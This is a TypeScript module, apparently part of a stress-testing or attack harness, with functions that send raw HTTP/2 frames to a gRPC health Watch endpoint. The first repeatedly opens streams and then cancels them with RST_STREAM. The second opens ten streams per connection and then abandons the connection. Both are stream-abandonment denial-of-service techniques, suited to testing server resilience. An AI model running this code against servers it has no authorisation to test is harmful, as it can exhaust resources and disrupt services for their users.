import type { AttackContext } from "./attack.ts";
import { flags, frame, number32, openHttp2, requestHeaders } from "./frames.ts";
import { runPeers } from "./peers.ts";

const watch = requestHeaders("/grpc.health.v1.Health/Watch", [["content-type", "application/grpc"]]);

/** Opens streams and leaves them once their answers have begun, again and again: on each connection a few at a time, and not too fast. */
export const leavingStreams = (context: AttackContext) =>
  runPeers(
    context,
    () => openHttp2(context.port),
    async (socket, isOver) => {
      for (let stream = 1; !isOver(); stream += 2) {
        socket.write(frame("headers", { stream, flag: flags.endHeaders, payload: watch }));
        socket.write(frame("data", { stream, flag: flags.endStream, payload: Buffer.alloc(5) }));
        await new Promise((resolve) => setTimeout(resolve, 100));
        socket.write(frame("rstStream", { stream, payload: number32(8) }));
        context.report.count("left");
      }
    },
  );

/** The same by closing the connection, ten streams on each. */
export const leavingConnections = (context: AttackContext) =>
  runPeers(
    context,
    () => openHttp2(context.port),
    async (socket) => {
      for (let stream = 1; stream < 20; stream += 2) {
        socket.write(frame("headers", { stream, flag: flags.endHeaders, payload: watch }));
        socket.write(frame("data", { stream, flag: flags.endStream, payload: Buffer.alloc(5) }));
      }
      await new Promise((resolve) => setTimeout(resolve, 50));
      context.report.count("left", 10);
    },
  );
